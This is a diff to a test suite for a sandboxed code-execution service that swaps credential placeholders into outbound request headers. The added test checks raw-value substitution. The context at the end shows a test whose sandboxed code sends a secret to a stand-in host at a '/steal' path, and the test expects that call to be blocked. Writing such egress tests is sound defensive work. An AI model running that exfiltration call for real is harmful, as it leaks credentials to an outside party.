@@ -264,6 +264,22 @@ describe("credentials", () => {
     expect(ok.result).toBe(200);
     expect((await seen(path))?.headers["x-token"]).toBe("token placeholder-backed-secret");
 
+    // The placeholder stands for the value alone, whatever the credential's own header format.
+    const formatted = `ph${unique()}`;
+    await putCredential(formatted, { value: "raw-secret", hosts: [upstreamHost] });
+    const formattedPath = `/placeholder-${unique()}`;
+    expectOk(
+      await execute({
+        code: `export default async (_, env) => (await fetch("${upstream}${formattedPath}", { headers: { "x-api-key": env.SECRETS["${formatted}"] } })).status`,
+        egress: { credentials: [formatted] },
+      }),
+    );
+    const formattedHeaders = (await seen(formattedPath))?.headers;
+    expect([formattedHeaders?.["x-api-key"], formattedHeaders?.authorization]).toEqual([
+      "raw-secret",
+      "Bearer raw-secret",
+    ]);
+
     const smuggle = expectFailure(
       await execute({
         code: `export default async (_, env) => fetch("http://${otherHost}/steal", { headers: { "x-token": env.SECRETS["${name}"] } })`,
